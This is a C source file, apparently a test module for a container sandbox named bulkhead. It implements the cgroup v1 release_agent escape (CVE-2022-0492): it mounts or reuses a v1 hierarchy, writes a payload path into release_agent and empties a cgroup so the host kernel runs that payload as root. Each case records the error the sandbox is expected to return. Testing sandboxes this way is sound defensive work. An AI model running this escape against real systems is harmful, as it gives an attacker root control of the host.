// SPDX-License-Identifier: GPL-2.0-only
/*
 * The release agent of a cgroup v1 hierarchy is a program that the host's
 * kernel runs, as root in the host's namespaces, when a cgroup empties.
 * CVE-2022-0492; Felix Wilhelm, 2019 ("Quick and dirty way to get out of a
 * privileged container").
 */
#include <errno.h>
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include <linux/capability.h>

#include "escape.h"
#include "host.h"

#define HIERARCHY	"none,name=bh-escape"
#define ON_HOST		TOP "/v1"

/* @agent first: it is what makes the difference. */
static int arm_agent(const char *agent, const char *group, const char *notify,
		     const char *procs)
{
	int error = drop_payload();
	pid_t pid;

	if (!error)
		error = write_file(agent, HOST_PAYLOAD);
	if (!error && mkdir(group, 0755) && errno != EEXIST)
		error = errno;
	if (!error)
		error = write_file(notify, "1");
	if (error)
		return error;
	pid = fork();
	if (!pid)
		_exit(write_file(procs, "0"));
	return waitpid(pid, NULL, 0) == pid ? 0 : errno;
}

static int by_own_mount(const struct args *a)
{
	(void)a;
	mkdir("/tmp/v1", 0755);
	if (mount("cgroup", "/tmp/v1", "cgroup", 0, HIERARCHY))
		return errno;
	return arm_agent("/tmp/v1/release_agent", "/tmp/v1/x",
			 "/tmp/v1/x/notify_on_release", "/tmp/v1/x/cgroup.procs");
}

static int by_hosts_mount(const struct args *a)
{
	(void)a;
	return arm_agent("/mnt/v1/release_agent", "/mnt/v1/x",
			 "/mnt/v1/x/notify_on_release", "/mnt/v1/x/cgroup.procs");
}

static void mount_v1(struct args *a)
{
	(void)a;
	mount_at("cgroup", ON_HOST, "cgroup", 0, HIERARCHY);
}

static void remove_v1(void)
{
	rmdir(ON_HOST "/x");
	write_file(ON_HOST "/release_agent", "\n");
	umount2(ON_HOST, MNT_DETACH);
}

const struct escape release_agent[] = {
	{ "release_agent of a v1 hierarchy that it mounts",
	  { .caps = CAP(CAP_SYS_ADMIN) }, mount_v1, .attempt = by_own_mount,
	  .escaped = owned, .restore = remove_v1,
	  .error = EPERM, .act = BULKHEAD_ACT_MOUNT, .rule = "preset mount" },
	{ "release_agent of a v1 hierarchy that it was given",
	  { .caps = ALL_CAPS, .volumes = { ON_HOST, "/mnt/v1" } },
	  mount_v1, .attempt = by_hosts_mount, .escaped = owned,
	  .restore = remove_v1, .error = EACCES, .act = BULKHEAD_ACT_OPEN,
	  .rule = "preset release-agent" },
	{ NULL }
};
